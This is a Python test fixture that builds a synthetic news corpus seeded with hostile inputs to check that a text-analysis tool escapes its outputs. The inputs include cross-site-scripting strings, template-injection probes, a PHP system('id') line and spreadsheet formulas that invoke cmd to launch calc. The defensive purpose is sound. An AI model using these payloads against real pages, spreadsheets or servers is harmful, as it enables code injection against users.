"""Texts that try to run, to load, to break out or to mislead, and a corpus that has them in every field.

Where a text runs in a page it sets `window.ran`; where it loads it asks `example.org`, which nothing else here does.

    python -m tests.hostile.payloads             # how many payloads are in each field
"""

from __future__ import annotations

import csv
import json
import tempfile
from collections.abc import Iterable
from pathlib import Path

#: By name: what each is in the field of a person who means harm, or of a feed that was converted badly.
PAYLOADS = {
    # Elements that run a script or load something.
    "script": "<script>window.ran = 1</script>",
    "script-from-elsewhere": "<script src=https://example.org/x.js></script>",
    "script-in-capitals": "<ScRiPt>window.ran = 2</sCrIpT>",
    "image": "<img src=x onerror=window.ran=3>",
    "image-from-elsewhere": "<img src=//example.org/x.png>",
    "svg": "<svg onload=window.ran=4>",
    "svg-animation": "<svg><animate onbegin=window.ran=5 attributeName=x dur=1s>",
    "frame": "<iframe srcdoc='<script>parent.ran = 6</script>'></iframe>",
    "object": "<object data=https://example.org/x.swf></object>",
    "details": "<details open ontoggle=window.ran=7>",
    "video": "<video><source onerror=window.ran=8></video>",
    "style": "<style>body { display: none } @import 'https://example.org/x.css';</style>",
    "base": "<base href=https://example.org/>",
    "refresh": "<meta http-equiv=refresh content='0;url=https://example.org/'>",
    "form": "<form action=https://example.org/><button autofocus onfocus=window.ran=9>Go</button></form>",
    "math": "<math><mtext><table><mglyph><style><img src=x onerror=window.ran=10></style></mglyph></table>",
    # What ends an element, an attribute, a comment or a string that it stands in.
    "end-of-script": "</script><script>window.ran = 11</script>",
    "end-of-data": "</script><!--<script>window.ran = 12</script>-->",
    "end-of-title": "</title></textarea></noscript><img src=x onerror=window.ran=13>",
    "end-of-attribute": '" onmouseover=window.ran=14 autofocus onfocus=window.ran=15 x="',
    "end-of-single": "' onclick=window.ran=16 style=position:fixed x='",
    "end-of-cell": "</td></tr></table></details></main><h1>Gone</h1>",
    "comment": "<!-- an open comment <!-- and another --!>",
    "character-data": "<![CDATA[<script>window.ran = 17</script>]]>",
    "instruction": "<?php system('id') ?>",
    "string": '\\"; window.ran = 18; //',
    "line-separators": "one\u2028window.ran = 19\u2029two",
    # Addresses, templates, Markdown, formulas.
    "address": "javascript:window.ran=20",
    "link": "<a href=javascript:window.ran=21>read more</a>",
    "data-address": "<a href='data:text/html,<script>window.ran=22</script>'>read on</a>",
    "markdown-link": "[press](javascript:window.ran=23)",
    "markdown-image": "![x](https://example.org/x.png)",
    "markdown-heading": "## Parameters",
    "markdown-fence": "``` {.python}",
    "jinja": "{{ 7 * 7 }} {% raw %} {# #}",
    "braces": "{0} {corpus} {final} {__class__} }{",
    "percent": "%s %(name)s %n %%",
    "literal": "${window.ran = 24} `window.ran = 25`",
    "vega-expression": "datum.x = (window.ran = 26)",
    "tex": "$\\href{javascript:window.ran=27}{x}$",
    "backslashes": "C:\\new\\table \\u0022 \\x3cscript\\x3e",
    "entities": "&lt;script&gt;window.ran = 28&lt;/script&gt; &amp;amp;",
    "formula": '=HYPERLINK("https://example.org/"&A1,"see")',
    "formula-plus": "+1+cmd|' /C calc'!A0",
    "formula-minus": "-2+3+cmd|' /C calc'!A0",
    "formula-at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "formula-wide": "＝1+1",
    # Characters.
    "clear-screen": "\x1b[2J",
    "move-cursor": "\x9b5Aup\roverwritten",
    "control-characters": "a\x08b\x7fc",
    "null": "nothing\x00here",
    "bidirectional": "\u202eevil\u202c \u2066isolated\u2069 \u200fmark",
    "zero-width": "zero\u200bwidth\u200d\ufeffand\u2060joiner",
    "right-to-left": "קול העיר והמדינה",
    "emoji": "👩‍👩‍👧‍👦🏳️‍🌈👋🏽",
    "combining": "Z" + "\u0301\u0316" * 40,
    "full-width": "＜script＞window.ran = 29＜/script＞",
    "overlong": "supercalifragilistic" * 40,
    "quotation-marks": '"“‘«„\'»”’"',
    "surrogate": "half \ud83d a face",
}

#: Fields of an article that the table beside the articles gives.
FIELDS = ("title", "outlet", "published", "byline", "url", "<b>column</b> {corpus}")

#: Signs that no file's name can hold, or that would make another file of it.
_NO_NAME = str.maketrans({"/": "∕", "\0": None, "\ud83d": None})

_DAYS = ("Monday", "Tuesday", "Wednesday", "Thursday", "Friday")
_TOWNS = ("Ashford", "Kelso", "Lewes", "Marlow", "Oakham", "Penrith", "Thirsk")

#: What makes an article with a few control characters a text with a slip in it, which is read.
_LONG = "The ferry to the islands ran late, and people who had come early for it sat in the old hall. " * 40


def article(number: int, payload: str, before: str) -> str:
    """Return an article with a payload as heading, quotation, speaker and prose, and another in shared words."""
    day, town = _DAYS[number % 5], _TOWNS[number % 7]
    return (
        f"{payload}\n\n"
        f"The council of {town} put off its vote on the harbour number {number} on {day}, officials said.\n\n"
        f"“We heard {payload} from the {number} people who came,” Mayor Anna Bell of {town} said on {day}. "
        f'"That is {payload}," {payload} said.\n\n'
        f"{payload} according to {payload}, who told the council that the bridge “{payload}”.\n\n"
        f"A spokesman for the port said that the work on the older of the two piers was {before} and would go on.\n"
        + (_LONG if any(ord(sign) < 32 for sign in payload) else "")
    )


def file_name(text: str) -> str:
    """Return a text as a name that a file can have: of at most 255 bytes."""
    return text.translate(_NO_NAME).encode()[:255].decode("utf-8", "ignore")


def below(folder: Path, payloads: Iterable[str]) -> Path:
    """Return a path below a folder whose every part is a payload."""
    return folder.joinpath(*filter(str.strip, map(file_name, payloads)))


def write_corpus(folder: Path) -> Path:
    """Write an article for each payload, named by it, and a table that has it in every field; return the folder.

    In the table each payload is a column's name too.
    """
    folder.mkdir(parents=True)
    rows = []
    for number, payload in enumerate(PAYLOADS.values()):
        name = file_name(f"{number:02}_{payload}")[:60] + ".txt"
        # No file holds half a character; a table in JSON does.
        before = list(PAYLOADS.values())[number - 1]
        text = article(number, payload, before if before.isprintable() else name)
        (folder / name).write_bytes(text.encode("utf-8", "replace"))
        facts = dict.fromkeys(FIELDS, payload)
        if number % 2:
            facts["published"] = f"2025-11-{1 + number // 3:02}"
        rows.append({"file": name, **facts, payload: payload})
    lines = "".join(json.dumps(row) + "\n" for row in rows)
    (folder / "metadata.jsonl").write_text(lines, encoding="utf-8")
    (folder / "<script>window.ran = 30<").write_bytes(b"\x00\xff")
    return folder


def write_dictionary(file: Path) -> Path:
    """Write a dictionary of terms whose categories and terms are payloads."""
    rows = [(f"{name} {payload}", payload) for name, payload in PAYLOADS.items() if payload in TERMS]
    with file.open("w", encoding="utf-8", newline="") as opened:
        csv.writer(opened).writerows([("category", "term"), *rows])
    return file


#: Payloads that may be asked for as a term: in one line, with a letter or digit to look for.
TERMS = [
    payload
    for payload in PAYLOADS.values()
    if len(payload.splitlines()) == 1 and any(map(str.isalnum, payload)) and payload.isprintable()
]


def write_hostile(folder: Path) -> dict[str, object]:
    """Write the corpus and the dictionary below a folder; return the parameters of a run."""
    parameters = hostile_parameters(folder)
    write_corpus(Path(str(parameters["corpus"])))
    write_dictionary(Path(str(parameters["dictionary"])))
    return parameters


def hostile_parameters(folder: Path) -> dict[str, object]:
    """Return parameters of a run on the corpus below a folder, with payloads wherever a text is taken."""
    return {
        "corpus": str(folder / "<img src=x onerror=alert(1)> {corpus}"),
        "keywords": TERMS,
        "expressions": TERMS,
        "extra_stop_words": [term for term in TERMS if not term.startswith(("+", "-"))],  # they are refused
        "unit": "dictionary",
        "dictionary": str(folder / "{0}.csv"),
        "compare_by": FIELDS[-1],
    }


#: Places of an article's text that each payload is in, and of a run's paths (see `test_hostile_paths.py` for these).
_IN_FILES = (
    "heading",
    "quotation",
    "quotation in straight marks",
    "speaker",
    "prose",
    "marked term",
    "name of a file",
)
_IN_PATHS = ("folder above the corpus or the reports",)


def count_fields() -> dict[str, int]:
    """Return how many payloads are in each field that can reach an output."""
    with tempfile.TemporaryDirectory() as name:
        corpus = write_corpus(Path(name) / "corpus")
        rows = [json.loads(line) for line in (corpus / "metadata.jsonl").read_text("utf-8").splitlines()]
        dictionary = write_dictionary(Path(name) / "a.csv").read_text("utf-8")
        terms = len(list(csv.reader(dictionary.splitlines()))) - 1
    # No file and no path holds half a character.
    counts = dict.fromkeys((*_IN_FILES, *_IN_PATHS), len(PAYLOADS) - 1)
    pairs = list(zip(rows, PAYLOADS.values(), strict=True))
    counts |= {field: sum(row[field] == payload for row, payload in pairs) for field in FIELDS}
    counts["name of a column"] = sum(payload in row for row, payload in pairs)
    given = hostile_parameters(Path())
    counts |= {f"parameter {name}": len(value) for name, value in given.items() if isinstance(value, list)}
    return counts | {"category of a dictionary": terms, "term of a dictionary": terms}


if __name__ == "__main__":
    counted = count_fields()
    for field, number in counted.items():
        print(f"{number:4} {field}")
    print(f"{len(PAYLOADS)} payloads in {len(counted)} fields: {sum(counted.values()):,} in all")
